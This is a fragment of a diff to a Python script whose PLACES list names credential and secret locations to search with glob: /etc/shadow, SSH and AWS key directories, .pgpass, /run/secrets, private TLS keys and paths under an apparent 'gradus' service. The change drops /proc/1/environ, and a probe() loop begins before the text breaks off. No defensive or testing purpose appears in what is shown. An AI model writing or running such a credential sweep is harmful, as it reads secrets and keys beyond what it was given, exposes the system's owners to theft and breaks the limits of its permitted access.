@@ -6,7 +6,7 @@
 import glob
 
 PLACES = """/run/secrets/* /var/run/secrets/** /etc/gradus/* /root/.pgpass /root/.aws/* /root/.ssh/* /home/*/.* /etc/shadow /etc/passwd
-/var/lib/gradus/** /proc/1/environ /etc/hosts /etc/resolv.conf /etc/machine-id /etc/ssl/private/* /srv/** /credentials/*"""
+/var/lib/gradus/** /etc/hosts /etc/resolv.conf /etc/machine-id /etc/ssl/private/* /srv/** /credentials/*"""
 
 def probe():
     for pattern in PLACES.split():
